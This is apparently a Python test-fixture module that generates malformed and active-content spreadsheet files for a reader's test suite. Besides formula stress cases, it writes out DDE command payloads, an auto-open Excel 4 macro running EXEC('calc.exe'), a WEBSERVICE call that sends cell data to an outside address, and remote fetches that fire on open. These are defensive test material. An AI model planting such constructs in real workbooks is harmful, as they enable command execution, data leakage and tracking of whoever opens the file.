"""Formulas and parts that would act: calls out, links, macros; formulas in circles and beyond all limits."""

from __future__ import annotations

import re
from pathlib import Path

from awkward import OFFICE, PACKAGE, awkward, cell, log, parts, relations, sheet, workbook, write

RIGHT = "MOD(B{0}+C{0}+N(D{0}),10)"


def formula(place: str, text: str, value: object = 0, attributes: str = "") -> str:
    text = text.replace("&", "&amp;").replace("<", "&lt;")
    return cell(place, value, f"<f{attributes}>{text}</f>")


def with_formulas(path: Path, *texts: str, **more: str) -> None:
    """A log whose rows hold one formula each beside the table."""
    cells = {number: formula(f"K{number}", text) for number, text in enumerate(texts, 2)}
    write(path, parts(log(in_row=cells), **more))


def filled(text: str, shared: bool = False) -> str:
    """The log with Player's total as a formula."""

    def total(found: re.Match[str]) -> str:
        number = found[1]
        return formula(f"H{number}", text.format(number), int(found[2]))

    return re.sub(r'<c r="H([2-5])"><v>(\d+)</v></c>', total, log())


@awkward("shared_circle.xlsx", "shared formulas that name each other and themselves", "read", "")
def shared_circle(path: Path) -> None:
    first = '<f t="shared" ref="K2:K5" si="0">L2</f>'
    second = '<f t="shared" ref="L2:L5" si="1">K2+L2</f>'
    cells = {2: cell("K2", 0, first) + cell("L2", 0, second)}
    for number in (3, 4, 5):
        cells[number] = cell(f"K{number}", 0, '<f t="shared" si="0"/>')
        cells[number] += cell(f"L{number}", 0, '<f t="shared" si="1"/>')
    write(path, parts(log(in_row=cells)))


@awkward("shared_lost.xlsx", "shared formulas whose text is nowhere", "read|in part", "")
def shared_lost(path: Path) -> None:
    odd = ('si="7"', 'si="-1"', 'si="99999999999999999999"', "")
    cells = {n: cell(f"K{n}", 0, f'<f t="shared" {si}/>') for n, si in enumerate(odd, 2)}
    write(path, parts(log(in_row=cells)))


@awkward(
    "circle.xlsx", "totals that are worked out from each other", "read", "circle|itself|undecided|not judged"
)
def circle(path: Path) -> None:
    rows = filled("MOD(I{0}+0,10)")
    write(path, parts(rows.replace('<c r="I2"><v>7</v></c>', formula("I2", "MOD(H2+0,10)", 7))))


@awkward("not_a_number.xlsx", "formulas that read NaN and infinity", "read|in part", "")
def not_a_number(path: Path) -> None:
    rows = filled(RIGHT)
    for number, odd in ((2, "NaN"), (3, "INF"), (4, "-1E+999")):
        rows = re.sub(rf'<c r="B{number}".*?</c>', f'<c r="B{number}"><v>{odd}</v></c>', rows)
    write(path, parts(rows))


@awkward("long_formula.xlsx", "a formula of 8,192 characters", "read|in part", "")
def long_formula(path: Path) -> None:
    text = "MOD(B{0}+C{0}+N(D{0})" + "+0" * 4075 + ",10)"
    write(path, parts(filled(text)))


@awkward("parentheses.xlsx", "a formula with 3,000 parentheses", "read", "")
def parentheses(path: Path) -> None:
    write(path, parts(filled("(" * 3000 + RIGHT + ")" * 3000)))


@awkward("nested_ifs.xlsx", "a formula with 400 IF within each other", "read", "")
def nested_ifs(path: Path) -> None:
    text = "".join(f"IF(B{{0}}={n}," for n in range(400)) + "0" + ",1)" * 400
    write(path, parts(filled(text)))


@awkward("vast_formula.xlsx", "a formula of 4 MB", "in part", "")
def vast_formula(path: Path) -> None:
    with_formulas(path, "1" + "+B2" * 1_300_000)


@awkward("webservice.xlsx", "a formula that calls a web service", "read", "WEBSERVICE")
def webservice(path: Path) -> None:
    with_formulas(path, 'WEBSERVICE("http://198.51.100.1/?"&A1)', 'FILTERXML(WEBSERVICE("http://x/"),"//a")')


@awkward("dde.xlsx", "a formula that starts a program (DDE)", "read", "DDE")
def dde(path: Path) -> None:
    with_formulas(path, "cmd|'/c calc.exe'!A0", "[1]!'!A1'", 'HYPERLINK("file:///c:/windows/calc.exe","x")')


@awkward("dde_part.xlsx", "a link to a program in a part of its own", "read", "DDE")
def dde_part(path: Path) -> None:
    link = (
        '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        '<ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    )
    content = parts(relations=relations(f"{OFFICE}/externalLink|externalLinks/externalLink1.xml"))
    write(path, {**content, "xl/externalLinks/externalLink1.xml": link})


@awkward("external_link.xlsx", "formulas that read another workbook", "read", "another workbook|external")
def external_link(path: Path) -> None:
    link = (
        '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        f'xmlns:r="{OFFICE}"><externalBook r:id="rId1"/></externalLink>'
    )
    there = relations(f"{OFFICE}/externalLinkPath|file:///\\\\198.51.100.1\\share\\rates.xlsx|External")
    content = parts(
        filled("[1]Rates!B{0}"), relations=relations(f"{OFFICE}/externalLink|externalLinks/externalLink1.xml")
    )
    content["xl/externalLinks/externalLink1.xml"] = link
    write(path, {**content, "xl/externalLinks/_rels/externalLink1.xml.rels": there})


@awkward("remote_picture.xlsx", "a picture that is fetched when the file is opened", "read", "fetch")
def remote_picture(path: Path) -> None:
    there = relations(f"{OFFICE}/image|http://198.51.100.1/tracker.png|External")
    write(path, {**parts(), "xl/drawings/_rels/drawing1.xml.rels": there, "xl/drawings/drawing1.xml": "<a/>"})


@awkward("macros.xlsm", "macros", "read", "macro")
def macros(path: Path) -> None:
    content = parts(
        relations=relations(
            "http://schemas.microsoft.com/office/2006/relationships/vbaProject|vbaProject.bin"
        )
    )
    types = str(content["[Content_Types].xml"]).replace(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    )
    write(
        path,
        {**content, "[Content_Types].xml": types, "xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\0" * 5000},
    )


@awkward("hidden_macros.xlsx", "macros in a file that is not named as having any", "read", "macro")
def hidden_macros(path: Path) -> None:
    write(path, {**parts(), "xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\0" * 5000})


@awkward("macro_sheet.xlsx", "a hidden Excel 4 macro sheet", "in part", "Excel 4 macro sheet")
def macro_sheet(path: Path) -> None:
    sheets = (
        '<sheet name="Log" sheetId="1" r:id="rId1"/>'
        '<sheet name="Macro1" sheetId="2" state="veryHidden" r:id="rId2"/>'
    )
    kind = "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet|macrosheets/sheet1.xml"
    names = '<definedNames><definedName name="_xlnm.Auto_Open">Macro1!$A$1</definedName></definedNames>'
    content = parts(relations=relations(kind), workbook=workbook(sheets, names=names))
    rows = f'<row r="1">{formula("A1", "EXEC(&quot;calc.exe&quot;)")}</row>'
    write(path, {**content, "xl/macrosheets/sheet1.xml": sheet(rows)})


@awkward("connection.xlsx", "a query that is run when the file is opened", "read", "connection")
def connection(path: Path) -> None:
    asks = (
        '<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><connection id="1" '
        'name="q" type="4" refreshOnLoad="1"><webPr url="http://198.51.100.1/q"/></connection></connections>'
    )
    content = parts(relations=relations(f"{OFFICE}/connections|connections.xml"))
    write(path, {**content, "xl/connections.xml": asks})


@awkward("embedded.xlsx", "an embedded object and an ActiveX control", "read", "embedded|ActiveX")
def embedded(path: Path) -> None:
    more = {
        "xl/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0" + b"\0" * 600,
        "xl/activeX/activeX1.bin": b"\0",
    }
    write(path, {**parts(), **more})


@awkward("ribbon.xlsx", "buttons that the file adds to the program", "read", "ribbon")
def ribbon(path: Path) -> None:
    ui = '<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui" onLoad="go"/>'
    write(path, {**parts(), "customUI/customUI.xml": ui})


@awkward("hidden_sheets.xlsx", "a very hidden sheet", "read", "very hidden")
def hidden_sheets(path: Path) -> None:
    sheets = (
        '<sheet name="Log" sheetId="1" r:id="rId1"/>'
        '<sheet name="Deep" sheetId="2" state="veryHidden" r:id="rId2"/>'
    )
    content = parts(
        workbook=workbook(sheets), relations=relations(f"{OFFICE}/worksheet|worksheets/sheet2.xml")
    )
    write(path, {**content, "xl/worksheets/sheet2.xml": sheet()})


@awkward(
    "template_elsewhere.xlsx",
    "a relation of the package itself that leads to an address",
    "read",
    "fetch|address",
)
def template_elsewhere(path: Path) -> None:
    there = (
        f'<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="rId1" '
        f'Type="{OFFICE}/officeDocument" Target="xl/workbook.xml"/><Relationship Id="rId2" '
        f'Type="{OFFICE}/attachedTemplate" '
        'Target="http://198.51.100.1/t.xltm" TargetMode="External"/></Relationships>'
    )
    write(path, {**parts(), "_rels/.rels": there})
